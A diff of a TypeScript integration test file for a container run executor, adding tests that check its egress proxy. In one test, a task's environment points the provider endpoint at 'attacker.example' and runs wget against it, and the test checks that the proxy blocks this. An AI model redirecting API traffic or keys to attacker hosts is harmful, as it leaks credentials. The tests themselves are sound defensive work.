@@ -1,6 +1,8 @@
 import { execFile } from 'node:child_process';
 import { randomBytes, randomUUID } from 'node:crypto';
-import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
+import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
@@ -18,7 +20,7 @@ import { LocalArtifactStore } from '@drover/storage';
 import { sandboxTestImage, testGit, waitFor } from '@drover/testing';
 import type { AgentOutcome } from './command-agent';
 import { DockerDriver, dockerClient } from './docker-driver';
-import { RunExecutor, type RunReporter } from './run-executor';
+import { RunExecutor, type ExecutorOptions, type RunReporter } from './run-executor';
 
 // The verification loop, the write policy, artifacts and pushes, run for real:
 // a local git repository, the container engine the Jest global setup provides
@@ -118,7 +120,11 @@ function work(agent: string, spec: Partial<TaskSpec>, timeoutMs = 120_000): RunD
   };
 }
 
-function executorFor(reports: Reports, secretsKey?: Uint8Array): RunExecutor {
+function executorFor(
+  reports: Reports,
+  secretsKey?: Uint8Array,
+  extra: Partial<ExecutorOptions> = {},
+): RunExecutor {
   return new RunExecutor({
     workdir: join(root, 'runs'),
     driver,
@@ -130,6 +136,7 @@ function executorFor(reports: Reports, secretsKey?: Uint8Array): RunExecutor {
     logFlushMs: 20,
     keepWorkspaces: false,
     secretsKey,
+    ...extra,
   });
 }
 
@@ -418,9 +425,98 @@ describe('RunExecutor in a container', () => {
     const plain = await execute(work('command', { steps: [{ run: probe }] }));
     expect(stdout(plain.reports)).toEqual(['links: lo ', 'dd: 0']);
     const asked = await execute(
-      work('command', { steps: [{ run: probe }], network: true, resources: { memory_mb: 64 } }),
+      work('command', { steps: [{ run: probe }], network: 'open', resources: { memory_mb: 64 } }),
     );
     expect(stdout(asked.reports)).toEqual(['links: eth0 lo ', 'dd: 137']);
+  }, 60_000);
+
+  it("lets a CLI agent reach only its provider's configured endpoint by default, whatever its env says", async () => {
+    const provider = createServer((req, res) => res.end(`model answer to ${req.url}`));
+    await new Promise<void>((done) => provider.listen(0, '127.0.0.1', done));
+    const address = `127.0.0.1:${(provider.address() as AddressInfo).port}`;
+    try {
+      const reports = new Reports();
+      const dispatched = work('claude-code', {
+        prompt: 'answer',
+        env: {
+          // A task cannot move the endpoint the runner's provider egress allows.
+          ANTHROPIC_BASE_URL: 'http://attacker.example',
+          FAKE_AGENT_SCRIPT: [
+            'echo "base=$ANTHROPIC_BASE_URL"',
+            'wget -q -O - "$ANTHROPIC_BASE_URL/v1/messages"; echo',
+            'wget -q -O - http://api.openai.com/v1/models || echo "openai refused"',
+          ].join('\n'),
+        },
+      });
+      const outcome = await executorFor(reports, undefined, {
+        providerEnv: { ANTHROPIC_API_KEY: 'sk-ant-test', OPENAI_API_KEY: 'sk-openai-test' },
+        providerEndpoints: { anthropic: `http://${address}` },
+      }).execute(dispatched, new AbortController().signal);
+      expect(outcome.outcome).toBe('SUCCEEDED');
+      expect(reports.lines.map((l) => l.text)).toEqual(
+        expect.arrayContaining([
+          `egress: provider: only ${address}, through the run's proxy`,
+          `base=http://${address}`,
+          'model answer to /v1/messages',
+          'openai refused',
+          'egress: denied GET api.openai.com:80 (not allowed)',
+        ]),
+      );
+      expect(outcome.result).toMatchObject({
+        egress: {
+          policy: 'provider',
+          allowed: [address],
+          denied: [{ target: 'api.openai.com:80', count: 1, reason: 'not allowed' }],
+        },
+      });
+    } finally {
+      provider.close();
+    }
+  }, 60_000);
+
+  it('names and counts the destinations its egress proxy refused, in the log and result.json', async () => {
+    // busybox wget sends absolute http:// requests to $http_proxy: each is refused with 403.
+    const fetch = (url: string) => `wget -q -O /dev/null ${url} 2>/dev/null; echo "wget: $?"`;
+    const dispatched = work('command', {
+      steps: [
+        {
+          run: [
+            fetch('http://127.0.0.1:5432/'),
+            fetch('http://127.0.0.1:5432/again'),
+            fetch('http://not-allowed.example/'),
+            'echo "links: $(ls /sys/class/net | tr "\\n" " ")"',
+          ].join('; '),
+        },
+      ],
+      network: { allow: ['registry.npmjs.org', '*.pypi.org'] },
+    });
+    const { outcome, reports } = await execute(dispatched);
+    expect(outcome.outcome).toBe('SUCCEEDED');
+    const stdout = reports.lines.filter((l) => l.stream === 'stdout').map((l) => l.text);
+    expect(stdout).toEqual(['wget: 1', 'wget: 1', 'wget: 1', 'links: lo ']);
+    const system = reports.lines.filter((l) => l.stream === 'system').map((l) => l.text);
+    expect(system).toContain(
+      "egress: allow: only registry.npmjs.org, *.pypi.org, through the run's proxy",
+    );
+    expect(system.filter((line) => line.startsWith('egress: denied'))).toEqual([
+      'egress: denied GET 127.0.0.1:5432 (not allowed)',
+      'egress: denied GET not-allowed.example:80 (not allowed)',
+    ]);
+    const result = JSON.parse(await artifact(dispatched.runId, 'result.json')) as {
+      egress: unknown;
+    };
+    expect(result.egress).toEqual({
+      policy: 'allow',
+      allowed: ['registry.npmjs.org', '*.pypi.org'],
+      denied: [
+        { target: '127.0.0.1:5432', count: 2, reason: 'not allowed' },
+        { target: 'not-allowed.example:80', count: 1, reason: 'not allowed' },
+      ],
+    });
+    expect(outcome.result).toMatchObject({ egress: result.egress });
+    // The proxy closed with the run, its socket removed with the run's directory.
+    const left = await readdir(join(root, 'runs'));
+    expect(left.filter((name) => name.startsWith(`run-${dispatched.runId}`))).toEqual([]);
   }, 60_000);
 
   it("keeps no artifacts for a plain run of shell steps: its log and result are the run's", async () => {
